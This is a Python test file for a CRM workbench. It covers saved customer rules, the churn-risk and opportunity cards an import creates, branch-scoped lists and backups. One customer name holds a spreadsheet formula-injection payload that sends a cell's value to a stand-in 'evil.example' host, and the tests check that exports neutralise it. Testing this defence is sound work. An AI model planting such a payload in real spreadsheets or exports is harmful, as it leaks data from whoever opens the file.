"""CRM lists and task rules on a workspace: saved rules with versions and their last run, the list's rows and
files (formula-safe), the cards an import creates (once, with the evidence), a scoped member's list, backups."""

from __future__ import annotations

import datetime
import io
import json
from dataclasses import replace

import pyarrow as pa
import pytest
from openpyxl import load_workbook

from workbench.core import access
from workbench.core.access import Scope
from workbench.core.contract import OVERALL
from workbench.core.customerrules import Rule, Segment, Threshold
from workbench.core.errors import ConflictError
from workbench.export.tables import to_csv, to_xlsx
from workbench.features import crm
from workbench.repos.backup import read_backup, write_backup
from workbench.repos.customerrules import RuleError

BACKENDS = ("sqlite", "postgresql")
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'

# customer: (branch, first visit's NPS, second visit's NPS or None, revenue, products, account manager, retained)
CUSTOMERS = {
    "C1": ("Brno", 9, 4, 250_000.0, 3, "Jana Nováková", False),  # key account, fell by 5: churn risk
    "C2": ("Brno", 8, 6, 300_000.0, 2, "Petr Malý", True),  # fell by 2 only
    "C3": ("Ostrava", 10, 5, 20_000.0, 1, "Jana Nováková", True),  # fell by 5, small revenue
    "C4": ("Ostrava", 7, 10, 150_000.0, 1, "", True),  # a promoter with one product: an opportunity
    "C5": ("Brno", 3, None, 500.0, 1, "Petr Malý", False),  # a detractor, seen once, long ago
}


def survey(second: bool) -> pa.Table:
    """The answers of the first visits (spring), and of the second (1 June) when ``second``."""
    rows = []
    for n, (customer, (branch, first, later, *_rest)) in enumerate(CUSTOMERS.items()):
        rows.append((f"a{n}", customer, datetime.datetime(2026, 3, 1 + n, 10), OVERALL, first, None, branch))
        rows.append(
            (
                f"b{n}",
                customer,
                datetime.datetime(2026, 3, 1 + n, 10, 1),
                "delivery",
                None,
                "late parcel" if customer == "C3" else None,
                branch,
            )
        )
        if second and later is not None:
            rows.append(
                (
                    f"c{n}",
                    customer,
                    datetime.datetime(2026, 6, 1, 9 + n),
                    "delivery",
                    None,
                    "nobody called back" if customer == "C1" else None,
                    branch,
                )
            )
            rows.append((f"d{n}", customer, datetime.datetime(2026, 6, 1, 9 + n, 2), OVERALL, later, None, branch))
    names = ["response_id", "respondent_id", "ts", "touchpoint", "nps", "comment", "branch"]
    columns = dict(zip(names, zip(*rows, strict=True), strict=True))
    return pa.table(
        {
            **{k: pa.array(v, pa.string()) for k, v in columns.items() if k not in ("ts", "nps")},
            "ts": pa.array(columns["ts"], pa.timestamp("s")),
            "nps": pa.array(columns["nps"], pa.int8()),
            "csat": pa.array([4 if t == "delivery" else None for t in columns["touchpoint"]], pa.int8()),
            "ces": pa.nulls(len(rows), pa.int8()),
        }
    ).select(["response_id", "respondent_id", "ts", "touchpoint", "nps", "csat", "ces", "comment", "branch"])


def kpis() -> pa.Table:
    ids = list(CUSTOMERS)
    return pa.table(
        {
            "respondent_id": ids,
            "name": [HOSTILE if c == "C2" else f"Customer {c}" for c in ids],
            "email": [f"{c.lower()}@example.com" for c in ids],
            "account_manager": [CUSTOMERS[c][5] for c in ids],
            "branch": [CUSTOMERS[c][0] for c in ids],
            "revenue": [CUSTOMERS[c][3] for c in ids],
            "products": pa.array([CUSTOMERS[c][4] for c in ids], pa.int64()),
            "referrals": pa.array([0, 1, 0, 0, 0], pa.int64()),
            "retained": [CUSTOMERS[c][6] for c in ids],
        }
    )


CHURN = Rule(
    "Key accounts falling",
    kind="churn_risk",
    days=30,
    drop=3.0,
    thresholds=(Threshold("revenue", ">=", 100_000.0),),
    owner_column="account_manager",
)
OPPORTUNITY = Rule(
    "Happy with one product",
    kind="opportunity",
    days=30,
    groups=("promoter",),
    thresholds=(Threshold("products", "<=", 1.0),),
    owner_column="account_manager",
)
DETRACTORS = Rule("Detractors", days=0, groups=("detractor",))


@pytest.fixture
def project(workspace, small_journey):
    project_id = workspace.create_project("Shop")
    journey_id = workspace.create_journey(project_id, small_journey)
    workspace.datasets.add_table(project_id, kpis(), "Customers", "kpi_customer")
    workspace.datasets.add_table(project_id, survey(False), "Answers", "survey", journey_id=journey_id)
    workspace.datasets.settle()
    return project_id


def test_saved_rules_keep_versions_and_their_last_run(workspace, project):
    saved = workspace.customer_rules.save(project, CHURN, "Jana")
    workspace.customer_rules.save(project, DETRACTORS, "Jana")
    assert [s.rule.name for s in workspace.customer_rules.list(project)] == ["Detractors", "Key accounts falling"]
    changed = workspace.customer_rules.save(
        project, replace(CHURN, drop=4.0), "Petr", rule_id=saved.id, expected_version=saved.version
    )
    assert changed.version == 2 and changed.rule.drop == 4.0
    with pytest.raises(ConflictError):
        workspace.customer_rules.save(project, CHURN, "Jana", rule_id=saved.id, expected_version=saved.version)
    with pytest.raises(RuleError, match="already exists"):
        workspace.customer_rules.save(project, replace(DETRACTORS, name=" key  ACCOUNTS falling"), "Jana")
    with pytest.raises(RuleError, match="at least one condition"):
        workspace.customer_rules.save(project, Rule("Nothing"), "Jana")
    result, made = crm.run_saved(workspace, project, saved.id, "Jana")
    run = workspace.customer_rules.get(saved.id).run
    assert (run.count, run.tasks, made) == (0, 0, 0) and run.dataset_id == result.dataset_id
    offered = {c.label: c for c in crm.choices(workspace, project)}
    assert offered["Key accounts falling · Churn-risk task"].last_run.endswith(": 0 matched, 0 new cards.")
    assert "Preset: Detractors in the last 30 days" in offered and offered["Detractors · CRM list"].last_run == ""
    workspace.delete_project(project)
    assert workspace.customer_rules.list(project) == []


def test_an_import_makes_the_right_cards_once_with_the_evidence(workspace, project):
    churn = workspace.customer_rules.save(project, CHURN, "Jana")
    opportunity = workspace.customer_rules.save(project, OPPORTUNITY, "Jana")
    workspace.customer_rules.save(project, DETRACTORS, "Jana")
    journey_id = workspace.journeys(project)[0].id
    for _time in range(2):  # the same customers again: no second card
        workspace.datasets.add_table(project, survey(True), "Answers", "survey", journey_id=journey_id)
        workspace.datasets.settle()
        cards = sorted(workspace.actions.list(project), key=lambda a: a.title)
        assert [(a.title, a.owner, a.origin["kind"], a.origin["ref"]) for a in cards] == [
            ("Churn risk: Customer C1 (C1)", "Jana Nováková", "churn_risk", f"{churn.id}:C1"),
            ("Opportunity: Customer C4 (C4)", "Couriers", "opportunity", f"{opportunity.id}:C4"),
        ]  # C4 has no account manager: the owner of the delivery touchpoint
    card = cards[0]
    assert "NPS 4 (detractors) on 2026-06-01 at Overall · previous 9 on 2026-03-01 (−5) · revenue 250\xa0000" in (
        card.description
    )
    assert "Comment: “nobody called back”" in card.description and "c1@example.com" in card.description
    assert card.touchpoints == ("delivery",) and card.journey_id == journey_id
    assert [e.what for e in workspace.actions.history(card.id)][0] == "Created by a churn-risk rule"
    runs = {s.rule.name: s.run for s in workspace.customer_rules.list(project)}
    assert (runs["Key accounts falling"].count, runs["Key accounts falling"].tasks) == (1, 0)  # the second run
    assert runs["Detractors"].count == 4  # C1 (4), C3 (5), C2 (6), C5 (3, long ago: days = 0 is any date)
    written = crm.crm_folder(workspace, project)
    assert sorted(p.name for p in written.iterdir()) == ["detractors.csv", "detractors.json"]
    document = json.loads((written / "detractors.json").read_text(encoding="utf-8"))
    assert [c["customer_id"] for c in document["customers"]] == ["C1", "C3", "C2", "C5"]
    # A card moved to Done frees the customer for a new one on the next import.
    workspace.actions.move(card.id, "done", 0, "Jana", expected_version=card.version)
    workspace.datasets.add_table(project, survey(True), "Answers", "survey", journey_id=journey_id)
    workspace.datasets.settle()
    assert len([a for a in workspace.actions.list(project) if a.origin["kind"] == "churn_risk"]) == 2


def test_the_list_has_the_crm_columns_and_stays_inert_in_every_file(workspace, project):
    journey_id = workspace.journeys(project)[0].id
    workspace.datasets.add_table(project, survey(True), "Answers", "survey", journey_id=journey_id)
    result = crm.run(
        workspace, project, Rule("All who answered twice", days=0, groups=("detractor", "passive", "promoter"))
    )
    table = crm.frame(result)
    assert list(table.columns)[:11] == [
        "customer_id",
        "name",
        "email",
        "score",
        "date",
        "touchpoint",
        "comment",
        "previous_score",
        "previous_date",
        "change",
        "matched",
    ]
    first = table.iloc[0]
    assert (first.customer_id, first.score, first.date, first.touchpoint) == (
        "C1",
        4,
        datetime.date(2026, 6, 1),
        "Overall",
    )
    csv_text = to_csv(table).decode("utf-8-sig")
    assert "'" + HOSTILE.replace('"', '""') in csv_text and "\r\n" + HOSTILE not in csv_text
    sheet = load_workbook(io.BytesIO(to_xlsx({"list": table}))).active
    cells = [c.value for row in sheet.iter_rows() for c in row]
    assert "'" + HOSTILE in cells and not any(isinstance(c, str) and c.startswith("=") for c in cells)
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    from workbench.core.customerrules import to_json

    document = json.loads(to_json(crm.customer_list(result)))
    names = [c["name"] for c in document["customers"]]
    assert HOSTILE in names  # the exact text as a JSON string: data for an integration, never evaluated
    assert document["count"] == result.count == len(names) and document["kind"] == "list"


def test_a_scoped_member_lists_only_their_branch(workspace, project):
    workspace.users.add("brno", "a long enough password 25")
    workspace.users.grant("brno", project, "viewer", Scope((("branch", ("Brno",)),)))
    [user] = [u for u in workspace.users.list() if u.name == "brno"]
    everyone = Rule("Everyone", days=0, groups=("detractor", "passive", "promoter"))
    with access.acting(workspace.users.access(user)):
        result = crm.run(workspace, project, everyone)
    assert sorted(result.table["customer_id"]) == ["C1", "C2", "C5"]
    assert set(result.table["name"]) == {"Customer C1", HOSTILE, "Customer C5"}
    passives = Rule("Passives of Ostrava", days=0, groups=("passive",), segments=(Segment("branch", ("Ostrava",)),))
    with access.acting(workspace.users.access(user)):
        assert crm.run(workspace, project, passives).count == 0
    assert list(crm.run(workspace, project, passives).table["customer_id"]) == ["C4"]


def test_chance_and_backtest_in_words(workspace, project):
    journey_id = workspace.journeys(project)[0].id
    workspace.datasets.add_table(project, survey(True), "Answers", "survey", journey_id=journey_id)
    result = crm.run(workspace, project, Rule("Fell", days=0, drop=3.0))
    assert list(result.table["customer_id"]) == ["C1", "C3"]
    assert crm.chance_text(result.chance).startswith(
        "Chance alone: of 4 customers with an earlier answer, about 1 false alarm is flagged"
    ) or "about 1 false alarm" in crm.chance_text(result.chance)
    assert crm.backtest_text(result.backtest).startswith(
        "Back-test: of 2 flagged customers with a known outcome, 1 stayed; 50\xa0% left (9\xa0%–91\xa0%), against 40\xa0% "
        "of all 5 customers."
    )


def test_a_backup_keeps_the_rules_and_their_cards_apart(workspace, project, tmp_path):
    saved = workspace.customer_rules.save(project, CHURN, "Jana")
    journey_id = workspace.journeys(project)[0].id
    workspace.datasets.add_table(project, survey(True), "Answers", "survey", journey_id=journey_id)
    workspace.datasets.settle()
    target = io.BytesIO()
    write_backup(workspace, project, target)
    copy = read_backup(workspace, io.BytesIO(target.getvalue()), name="Shop copy").project_id
    [rule] = workspace.customer_rules.list(copy)
    [card] = workspace.actions.list(copy)
    assert rule.id != saved.id and card.origin["ref"] == f"{rule.id}:C1" and rule.run.count == 1
